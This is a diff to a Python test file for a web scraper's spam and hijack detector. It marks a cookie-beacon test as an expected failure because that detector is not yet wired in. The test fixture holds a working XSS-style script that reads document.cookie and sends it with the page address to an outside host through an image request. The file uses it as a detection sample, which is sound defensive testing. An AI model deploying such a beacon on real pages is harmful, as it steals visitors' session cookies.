@@ -2,9 +2,11 @@
 B6, B9, §7.1): a frame a script writes off the screen or with no size, to a host the page names
 nowhere else (a traffic gate's counter: v41b rc41b-009/-010), and a request a script sends after
 reading document.cookie, carrying the page's address, to such a host (an XSS platform's
-``new Image().src``: rc41b-013). A visible written frame, a frame to a host the page links, and a
+``new Image().src``: rc41b-013; measured, not wired: behaviour.py's note on it). A visible written frame, a frame to a host the page links, and a
 counter beacon that reads no cookie stay clean."""
 from __future__ import annotations
+
+import pytest
 
 from scraper.clean import clean_page
 
@@ -66,6 +68,8 @@ BEACON = ("<script>(function(){(new Image()).src='http://zs.qk/index.php?do=api&
           "+'&cookie='+escape((function(){try{return document.cookie}catch(e){return ''}})());})();</script>")
 
 
+@pytest.mark.xfail(strict=True, reason="sb33 cookie-beacon reader measured, not wired (variant 065f29c): one dev page "
+                   "(rc41b-013) of one source shows the act, the acceptance rule asks two")
 def test_a_cookie_beacon_to_an_unnamed_host_is_spam():
     a = clean_page(_page(tail=BEACON), url=URL)
     assert a.hijacked and any("zs.qk" in f.evidence for f in a.findings)
